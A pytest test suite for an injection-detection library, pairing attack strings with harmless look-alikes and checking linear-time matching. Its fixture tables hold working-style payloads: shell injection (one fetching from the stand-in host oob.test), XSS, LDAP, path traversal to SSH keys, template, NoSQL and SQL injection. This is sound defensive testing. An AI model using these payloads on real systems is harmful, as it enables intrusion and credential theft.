"""Each check says yes to the structure of its attack and no to what only looks like it, in linear time."""

from __future__ import annotations

import time

import pytest
from hypothesis import example, given, settings, strategies as st

from gatewright.threats import CHECKS, KNOWN, TOKENS, Re2Matcher, VectorscanMatcher, fingerprint, load_rules

RULES = load_rules()

ATTACKS = {
    "shell": [
        "; cat /etc/hosts",
        "x|'w'ho\"am\"i",
        "a && /usr/bin/wget http://oob.test/x",
        "$(id)",
        "1;cat${IFS}/etc/hosts",
        "`sleep 5`",
        "x%0als -la",
        "|c^md /c dir",
        "||+dir|c:/",
        "$'id'",
        "x; sudo -l",
        "; if [ 1 ]; then id; fi",
        "; eval whoami",
        "a=id;$a",
        "/???/b?sh -c x",
        "/e*c/pa*wd",
        "x;/usr/bin/id and more",
    ],
    "html": [
        "<img src=x onerror=alert(1)>",
        "<svg/onload=top['al'+'ert'](1)>",
        '<a title="a>b" onfocus="document.title=1">',
        '<a href=" java\tscript:x()">',
        "<iframe src='data:text/html,x'>",
        "<x onclick=`eval(name)`",
        "<svg onload=with(document)body.append()>",
        "<img src=x onerror=a=alert,a(1)>",
    ],
    "ldap": ["*)(uid=*))(|(uid=*", "x)(cn>=a", "admin)(&)", "x))%00", "a)(!(b=c", "x)(member:1.2.840:=y"],
    "paths": [
        "../../etc/passwd",
        "a/../../../secret",
        "..%2f..%2f..%2fx",
        "..\\..\\win.ini",
        "file=../.ssh/id_rsa",
        "/..\\..//x",
        "%2e%2e/%2e%2e/etc/hosts",
        "..;/..;/web-inf/web.xml",
    ],
    "template": [
        "{{7*7}}",
        "${'a'+'b'}",
        "<%= 7 * 7 %>",
        "{{ ''.__class__ }}",
        "{{ x|attr('y') }}",
        "${x.getClass().forName('y')}",
        "#{system('id')}",
        "{{['id']|filter('passthru')}}",
    ],
    "operators": [
        '{"a": {"$ne": 1}}',
        "{$where: 'x'}",
        "user[$gt]=",
        "', $or: [",
        "login[$regex][$not]=x",
        "$where: '1'",
    ],
    "sql": [
        "x' or 1=1 --",
        '" or ""="',
        "1 union select a, b from c",
        "1; drop table x",
        "admin'--",
        "5) and (3=3",
        "x' and sleep(5)#",
        "1') where 2=2 order by 1#",
        "users.id and 8=3",
        "x' - 1 - 'y' = '1",
        "'-1#",
        "1--x\nand 2=2",
        "1 or (1 or 1)--",
    ],
}

HARMLESS = {
    "shell": [
        "salt & pepper",
        "Tom & Jerry; cat food",
        "find it here; sort of",
        "```python\nprint(x)\n```",
        "See `nslookup`, `host`.",
        "| ls | lists |\n|---|---|\n| cat | shows |",
        "R&D",
        "Windows&reg; 6.1",
        "Programming; Python; Ruby",
        "R&D; start at 5",
        "zone1,a|author|sort,year,a",
        "/static/*/*.js",
        "size=5; colour=$9",
        "5+5 & 6+6",
    ],
    "html": [
        '<button onclick="addToCart(5)">',
        '<a href="/javascript-books">alert(1)</a>',
        "<p>on load = heavy</p>",
        "a < b and c = d",
        "<3 you = me",
    ],
    "ldap": ["f(x)(y)", "(a) and (b)", "smile :) (uid=1 said nobody)", "a) first\n(b) second", "1) (see page 2)"],
    "paths": ["../images/logo.png", "see ../../docs for more", "wait...and go", "a/b/../c", "etc/passwd", "1.5..2.5"],
    "template": [
        "{{ price }}",
        "${total}",
        "{{ a * b }}",
        "{{ 2004-02-29 }}",
        "{{10.0.0.0/16}}",
        "{% if system %}",
        "{{",
    ],
    "operators": ['{"a": "{$ne: 1}"}', "we write $gt: greater", '{"$schema": "x", "$ref": "y"}', "price[$9]", "$in"],
    "sql": [
        "Rock 'n' Roll",
        "men's or women's",
        "the 60's and 70's",
        'a 15" and 17" screen',
        "it's 5 or 6",
        "select a size",
        "dogs' and cats' food",
        "O'Neil & Sons",
        "4 and 5 are 9",
        "5'-6 tall",
        "width and height = 5",
        "1--2\nand 3",
    ],
}

PIECES = st.sampled_from(
    ["'", '"', "<", ">", "/", "../", "..\\", "{{", "}}", "${", "(", ")", "*", "|", "&", ";", "`", "$(", "or ", "union ",
     "select ", "cat ", "onload=", "a=", "%2e", "$ne", ":", "[", "]", "--", "#", "\n", " ", "1", "\x00", "é", "\\"]
)  # fmt: skip


def _cases(table: dict[str, list[str]]) -> list[tuple[str, str]]:
    return [(name, text) for name, texts in table.items() for text in texts]


def test_every_check_is_tested_and_used() -> None:
    assert set(ATTACKS) == set(HARMLESS) == set(CHECKS) == {rule.confirm for rule in RULES.rules if rule.confirm}


@pytest.mark.parametrize(("name", "text"), _cases(ATTACKS))
def test_attacks_have_the_structure(name: str, text: str) -> None:
    assert CHECKS[name](text)


@pytest.mark.parametrize(("name", "text"), _cases(HARMLESS))
def test_harmless_text_has_not(name: str, text: str) -> None:
    assert not CHECKS[name](text)


@given(st.lists(PIECES | st.text(max_size=8), max_size=30).map("".join))
@settings(max_examples=200, deadline=None)
@example("")
@example("<" * 50)
def test_any_text_is_answered(text: str) -> None:
    """With yes or no, and twice the same."""
    for check in CHECKS.values():
        assert check(text) is check(text)


@given(st.lists(st.sampled_from([t for texts in ATTACKS.values() for t in texts]) | PIECES, max_size=5).map("".join))
@settings(max_examples=100, deadline=None)
def test_both_matchers_agree_about_confirmed_rules(text: str) -> None:
    assert VECTORSCAN.match(text) == RE2.match(text)


VECTORSCAN, RE2 = VectorscanMatcher(RULES), Re2Matcher(RULES)


@pytest.mark.parametrize("name", sorted(CHECKS))
def test_the_work_grows_no_faster_than_the_text(name: str) -> None:
    """No hostile shape of 200 KB takes minutes; the bound is far off, so that a busy machine passes too."""
    shapes = [
        "<",
        "< ",
        "'",
        '"',
        "`",
        "(",
        ")",
        "{{",
        "../",
        "..;/",
        "; ",
        "$(",
        "{'$",
        "a='",
        '<a b="',
        "<a ",
        "``` ",
        "%2e",
        "a+",
        "|a+",
        "(a=",
        "/???/",
        "a=b;$",
        "1 or 1",
    ]
    for shape in shapes:
        text = shape * (200_000 // len(shape))
        begin = time.process_time()
        CHECKS[name](text)
        CHECKS[name](shape + " " * 200_000)
        assert time.process_time() - begin < 5.0, shape


def test_fingerprints() -> None:
    """What tokens a text has, and that they are bounded."""
    assert fingerprint("' or 1=1 --") == "s"
    assert fingerprint("'x' or 1=1 --") == "s&1o1c"
    assert fingerprint("1 union all select user(), @@version from t") == "1UkEf,vkn"
    assert len(fingerprint("a " * 1_000)) == TOKENS


@pytest.mark.parametrize("word", sorted(KNOWN))
def test_every_known_command_passes_the_gate(word: str) -> None:
    """The expression that asks the check knows the same words as the check."""
    ids = {RULES.rules[number].id for number in VECTORSCAN.match(f"x; {word} -a /tmp")}
    assert "cmd-in-place" in ids
